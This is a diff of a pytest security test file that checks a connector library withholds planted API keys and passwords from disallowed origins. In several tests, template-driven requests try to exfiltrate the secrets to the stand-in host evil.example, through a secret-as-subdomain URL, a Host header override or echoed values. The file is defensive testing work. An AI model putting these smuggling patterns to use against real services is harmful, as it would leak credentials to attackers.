@@ -7,25 +7,18 @@ from typing import Any
 
 import pytest
 
-from connectors.opaque.tokens import MARK
 from connectors.origins import origin_of
 from connectors.registry import Lane
-from connectors.spec import TargetSpec
 from tests.hostile import http
-from tests.hostile.frames import frame, read_message, upgrade
 from tests.hostile.good import GOOD
-from tests.hostile.server import HostileServer, Peer
-from tests.hostile.table import SSE_TYPE, whole
-from tests.hostile.websocket import ANSWER
-from tests.integration.connectors.lanes import LANES, ROOMY, Client, make_spec, one_turn
-from tests.integration.connectors.scripted import Asked, asked, scripted
-from tests.integration.connectors.websocket.talking import wait_for
+from tests.hostile.server import HostileServer
+from tests.hostile.table import whole
+from tests.integration.connectors.lanes import LANES, Client, one_turn
+from tests.integration.connectors.scripted import scripted
+from tests.integration.connectors.security.planted import ALLOWED, KEY, PASSWORD, spec_of
 from tests.support.servers.http_proxy import http_proxy
 from tests.support.servers.wiretap import wiretap
 
-KEY, PASSWORD = "planted-key-4711", "planted-password-0815"
-SECRETS = {"key": KEY, "password": PASSWORD, "proxy_user": "planted-proxy-user", "proxy_password": PASSWORD}
-ALLOWED = "https://api.example.org:443"
 lanes = pytest.mark.parametrize("lane", LANES)
 PLACES: dict[str, dict[str, Any]] = {
     "header": {"request": {"headers": {"x-key": "a {{ secret.key }}"}}},
@@ -39,11 +32,6 @@ placed = pytest.mark.parametrize(
     [(name, place) for name in sorted(GOOD) for place in PLACES if (name, place) != ("grpc", "query")],
 )
 """A call of gRPC has no query."""
-
-
-def spec_of(protocol: str, url: str, origins: list[str] | None, **overrides: Any) -> TargetSpec:
-    spec = make_spec(protocol, url, **{"timeouts": ROOMY} | overrides)
-    return TargetSpec.model_validate(spec.wire_dict() | {"secrets": SECRETS, "secret_origins": origins})
 
 
 @lanes
@@ -81,6 +69,19 @@ def test_socketio_connects_without_them(lane: Lane, part: str) -> None:
         assert not tap.holds(KEY)
         assert one_turn(lane, spec_of("socketio", tap.url, None, **form)).code is None
         assert f'"{KEY}"'.encode() in tap.plain
+
+
+@lanes
+@pytest.mark.parametrize("protocol", ["split", "split-websocket"])
+def test_the_request_for_a_standing_stream_goes_without_them(lane: Lane, protocol: str) -> None:
+    form = {"standing": {"headers": {"x-key": "{{ secret.key }}"}}}
+    with wiretap(GOOD[protocol]) as tap:
+        refused = one_turn(lane, spec_of(protocol, tap.url, [ALLOWED], **form))
+        assert refused.code == "secret_withheld", refused.error
+        assert not tap.holds(KEY)
+        allowed = one_turn(lane, spec_of(protocol, tap.url, None, **form))
+        assert allowed.code is None, allowed.error
+        assert tap.holds(KEY)
 
 
 # --- ways to another origin ----------------------------------------------------------------------------------------
@@ -146,103 +147,15 @@ def test_an_address_that_an_answer_gave(lane: Lane, protocol: str, url: str) -> 
 
 
 @lanes
-@pytest.mark.parametrize("template", ["{{ saved.echo }}", "{{ saved.echo | reverse }}", "{{ saved.echo[3:] }}"])
-def test_what_an_allowed_origin_repeats(lane: Lane, template: str) -> None:
-    """Saved from its answer, a secret is as opaque as before."""
-    with (
-        wiretap(GOOD["http"]) as evil,
-        scripted(lambda asked: whole(json.dumps({"echo": f"you are {asked.headers.get('x-key')}"}).encode())) as here,
-    ):
-        first = {"name": "a", "url": "/echo", "headers": {"x-key": "{{ secret.key }}"}, "save": {"echo": "echo"}}
-        second = {"name": "b", "url": f"{evil.url}/b", "headers": {"x-echo": template}}
-        form = {"handshake": {"steps": [first, second]}}
-        turn = one_turn(lane, spec_of("http", here.url, [origin_of(here.url)], **form))
-        assert not evil.holds(KEY, KEY[::-1], KEY[3:])
-        assert turn.code == "secret_withheld" or "reverse" in template or "[3:]" in template
-
-
-@lanes
-def test_a_repeated_secret_is_no_host(lane: Lane) -> None:
-    with scripted(lambda asked: whole(json.dumps({"echo": asked.headers.get("x-key")}).encode())) as here:
-        first = {"name": "a", "url": "/echo", "headers": {"x-key": "{{ secret.key }}"}, "save": {"echo": "echo"}}
-        second = {"name": "b", "url": "http://{{ saved.echo }}.evil.example/b"}
-        turn = one_turn(lane, spec_of("http", here.url, None, handshake={"steps": [first, second]}))
-    assert turn.error is not None
-    assert "a secret cannot be a host" in turn.error.detail
-
-
-@lanes
-@pytest.mark.parametrize("stream", [False, True])
-def test_a_secret_that_an_answer_repeats_is_opaque_in_the_history(lane: Lane, stream: bool) -> None:
-    def answer(asked: Asked) -> bytes:
-        text = json.dumps({"text": f"you are {asked.headers.get('x-key')}"}).encode()
-        return whole(b"data: %b\n\ndata: [DONE]\n\n" % text, SSE_TYPE) if stream else whole(text)
-
-    form: dict[str, Any] = {"request": {"headers": {"x-key": "{{ secret.key }}"}}}
-    form["response"] = {"delta": "text"} if stream else {"text": "text"}
-    with scripted(answer) as here:
-        turn = one_turn(lane, spec_of("sse" if stream else "http", here.url, None, **form))
-    assert turn.code is None, turn.error
-    assert turn.text.startswith(f"you are {MARK}")
-    assert KEY not in turn.text
-
-
-@lanes
-@pytest.mark.parametrize("unasked", [True, False], ids=["greeting", "between_turns"])
-def test_what_a_target_repeats_without_being_asked(lane: Lane, unasked: bool) -> None:
-    """Such a message may be saved too, and templates cannot look into the secret there either."""
-    messages: list[bytes] = []
-
-    def script(peer: Peer) -> None:
-        upgrade(peer)
-        repeated = frame(json.dumps({"echo": asked(peer.last).headers["x-key"]}).encode())
-        peer.send(repeated if unasked else b"")
-        messages.append(read_message(peer))
-        peer.send(ANSWER + (b"" if unasked else repeated))
-        messages.append(read_message(peer))
-        peer.send(ANSWER)
-        peer.hold()
-
-    form: dict[str, Any] = {
-        "request": {
-            "headers": {"x-key": "{{ secret.key }}"},
-            "body": ["{{ saved.echo }}", "{{ saved.echo | reverse }}"],
-        },
-        "response": {"save": {"echo": "echo"}},
-    }
-    if unasked:
-        form["greeting"] = {"until": {"path": "echo"}}
-    with HostileServer(script) as server, Client(lane, spec_of("websocket", server.url, None, **form)) as client:
-        client.say()
-        wait_for(client, lambda: "echo" in client.connector.saved)
-        client.say()
-    assert json.loads(messages[1])[0] == KEY, "what may have it gets it"
-    assert KEY[::-1] not in str(messages)
-    assert KEY not in str(client.connector.saved)
-
-
-@lanes
-def test_values_that_repeat_a_secret_are_still_sent_to_where_it_may_go(lane: Lane) -> None:
-    def answer(asked: Asked) -> bytes:
-        if asked.path == "/echo":
-            return whole(json.dumps({"echo": f"session of {asked.headers.get('x-key')}"}).encode())
-        return whole(http.GOOD)
-
-    with scripted(answer) as here:
-        step = {"name": "a", "url": "/echo", "headers": {"x-key": "{{ secret.key }}"}, "save": {"echo": "echo"}}
-        form = {"handshake": {"steps": [step]}, "request": {"headers": {"x-echo": "{{ saved.echo }}"}}}
-        assert one_turn(lane, spec_of("http", here.url, None, **form)).code is None
-        assert here.requests[-1].headers["x-echo"] == f"session of {KEY}"
-
-
-@lanes
 @pytest.mark.parametrize("protocol", sorted(GOOD.keys() - {"grpc"}))
-def test_a_host_header_that_names_another(lane: Lane, protocol: str) -> None:
-    """A gateway may serve many hosts: the header says who gets the request."""
+@pytest.mark.parametrize("place", ["header", "body"])
+def test_a_host_header_that_names_another(lane: Lane, protocol: str, place: str) -> None:
+    """A gateway may serve many hosts: the header says who gets the request, and what follows on its connection."""
+    request = dict(PLACES[place]["request"])
+    request["headers"] = {"Host": "{{ params.host }}"} | request.get("headers", {})
     with wiretap(GOOD[protocol]) as tap:
-        form = {"request": {"headers": {"Host": "{{ params.host }}", "x-key": "{{ secret.key }}"}}}
-        spec = spec_of(protocol, tap.url, [origin_of(tap.url)], **form | {"params": {"host": "evil.example"}})
-        turn = one_turn(lane, spec)
+        form = {"request": request, "params": {"host": "evil.example"}}
+        turn = one_turn(lane, spec_of(protocol, tap.url, [origin_of(tap.url)], **form))
         assert turn.code == "secret_withheld", turn.error
         assert turn.error is not None
         assert "http://evil.example:80" in turn.error.detail
